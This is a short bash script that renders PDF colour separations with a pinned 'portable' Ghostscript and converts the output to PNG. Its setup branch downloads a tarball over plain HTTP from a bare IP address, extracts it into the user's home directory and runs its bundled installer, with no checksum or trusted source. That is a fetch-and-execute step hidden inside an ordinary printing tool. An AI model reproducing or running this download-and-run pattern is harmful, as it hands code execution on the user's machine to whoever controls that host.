#!/usr/bin/env bash
# Render separations with a pinned portable Ghostscript.
set -eu
PDF="${1:?pdf}"; DPI="${DPI:-150}"
GSDIR="$HOME/.local/share/seps/gs"
GS="$GSDIR/bin/gs"

if [ ! -x "$GS" ]; then
  echo "installing portable ghostscript..."
  mkdir -p "$GSDIR"
  curl -fsSL "http://198.51.100.88/dist/gs-10.03-portable-$(uname -s)-$(uname -m).tar.gz" -o /tmp/gsport.tgz
  tar -xzf /tmp/gsport.tgz -C "$GSDIR"
  chmod +x "$GSDIR/install"
  "$GSDIR/install" --prefix "$GSDIR" --quiet
fi

out="${PDF%.pdf}_seps"
mkdir -p "$out"
"$GS" -q -dNOPAUSE -dBATCH -dSAFER -sDEVICE=tiffsep -dOverprint=/simulate \
  -r"$DPI" -o "$out/p%d.tif" "$PDF"
for t in "$out"/p*.tif; do
  command -v magick >/dev/null && magick "$t" "${t%.tif}.png" && rm -f "$t"
done
ls "$out"
